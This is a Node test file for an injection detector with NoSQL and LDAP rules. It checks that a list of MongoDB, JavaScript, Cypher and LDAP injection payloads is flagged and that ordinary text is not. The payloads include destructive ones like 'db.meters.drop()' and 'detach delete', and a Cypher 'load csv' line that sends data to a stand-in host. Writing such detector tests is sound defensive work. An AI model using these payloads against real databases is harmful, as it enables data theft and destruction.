import assert from 'node:assert/strict';
import { after, describe, test } from 'node:test';
import { createJudge } from '../judge/judge.ts';
import type { Channel } from '../judge/types.ts';
import { ldapRules } from './ldap.ts';
import { nosqlRules } from './nosql.ts';

const judge = createJudge({ rules: [...nosqlRules, ...ldapRules] });
after(() => judge.dispose());

const THRESHOLD = 5;
const scoreOf = (text: string, channel: Channel = 'value'): number => judge.judge(text, channel)?.score ?? 0;

const ATTACKS: Readonly<Record<string, readonly string[]>> = {
  'an operator of MongoDB': [
    '{"$ne":null}',
    '{"$gt":""}',
    "{'$regex':'^q'}",
    '{$where:"sleep(9)"}',
    '{"pin":{"$in":["1","2"]}}',
    '{"$or":[{},{"q":7}]}',
    '[$ne]=7',
    '$where: 7 == 7',
    '{"$expr":{"$function":{"body":"q","args":[],"lang":"js"}}}',
  ],
  'the end of a value, and an operator behind it': [
    `q", "$or": [ {}, { "q": "q`,
    `q'}, $or: [ {}, {'q':'q`,
    `q', $where: '7 == 7`,
    `q"},"$ne":"r`,
  ],
  'JavaScript for a document database': [
    `' || 7==7 || 'q'=='r`,
    `' || 'q'=='q`,
    `'; return true; var q='r`,
    `'; while(true){}; var q='r`,
    `q' && this.pin.match(/^7/)//`,
    `q' || this.pin[0]=='7`,
    `'; sleep(9000); var q='`,
    `' || true || '`,
    `7; db.meters.drop()`,
    `' && this.pin.length==7 || 'q'=='r`,
    `db.getCollectionNames()`,
  ],
  'a query of a graph database': [
    "q'}) return q//",
    "q'}) detach delete q//",
    "q' return 7 union match (q) return q.pin//",
    '7 call db.labels() yield label return label',
    "7 load csv from 'http://q.example/'+q as l return 0",
  ],
  'a filter of LDAP that is closed and opened again': [
    '*)(uid=*))(|(uid=*',
    'guard)(&)',
    'guard)(|(pin=*)',
    '*)(objectClass=*',
    'guard)(!(pin=7))',
    '*))%00',
    'guard)(cn=*))(|(cn=*',
    'guard*)(mail=q*',
    '*)(|(mail=*))',
    'q)(memberOf:1.2.840.113556.1.4.1941:=cn=q',
    '*(|(mail=*))',
  ],
};

const NAMES = ['pin[$ne]', 'user[$regex]', '$where', '$or', '$not'];

const HONEST: readonly string[] = [
  'costs $5 and more',
  '{"price":{"gt":5}}',
  '{"$schema":"https://json-schema.org/draft/2020-12/schema","type":"object"}',
  '$filter=kwh gt 5',
  '$metadata.tags',
  'a && b || c == d',
  "status == 'open' || status == 'new'",
  't > 20 && h < 80 || override == true',
  'floor(3) && height(2)',
  '(a) (b)',
  'f(x)(y)',
  'Pump (north) (spare)',
  'thanks :) (see page 5)',
  '(555) 123-4567',
  '5 * (2 + 1) (rounded)',
  '*',
  '*/*',
  '*.csv',
  '**',
  '(*)',
  '=)',
  '|-)',
  'the "or" and the "$or" of it',
  'new (or used), * required',
  'and(eq(a,1),eq(b,2))',
  "$.store.book[?(@.price < 10 && @.category == 'fiction')]",
  "if (x == 'a') return 5;",
  'call the office, match the rows',
  'return to sender; while stocks last',
  'this.name is what I call it',
  'with 7 pumps, return 2',
  "Call me, I'd merge (all) the rows",
  'In MongoDB I would use {kwh: {$gt: 10}}; how do I write that in your API?',
  'The filter (&(objectClass=person)(uid=ann)) finds nobody, and (uid=*) finds all of them.',
];

for (const [technique, texts] of Object.entries(ATTACKS)) {
  describe(technique, () => {
    // Attack: a text that a query is put together with, and that changes what the query asks.
    for (const text of texts)
      test(`${JSON.stringify(text)} is an attack`, () => assert.ok(scoreOf(text) >= THRESHOLD, told(text)));
  });
}

describe('the name of a field', () => {
  // Attack: PHP and Express read `pin[$ne]=` as an object with an operator in it.
  for (const name of NAMES)
    test(`${name} is an attack`, () => assert.ok(scoreOf(name, 'name') >= THRESHOLD, told(name)));
  for (const name of ['$filter', '$id', '$type', 'kwh[gte]', 'filter[status][]'])
    test(`${name} is none`, () => assert.ok(scoreOf(name, 'name') < THRESHOLD));
});

describe('honest text', () => {
  for (const text of HONEST)
    test(`${JSON.stringify(text)} is none`, () => assert.ok(scoreOf(text) < THRESHOLD, told(text)));
});

/** What was found, for who reads a failure. */
const told = (text: string): string =>
  JSON.stringify(judge.judge(text, 'value')?.hits.map(({ rule, weight, evidence }) => [rule, weight, evidence]));
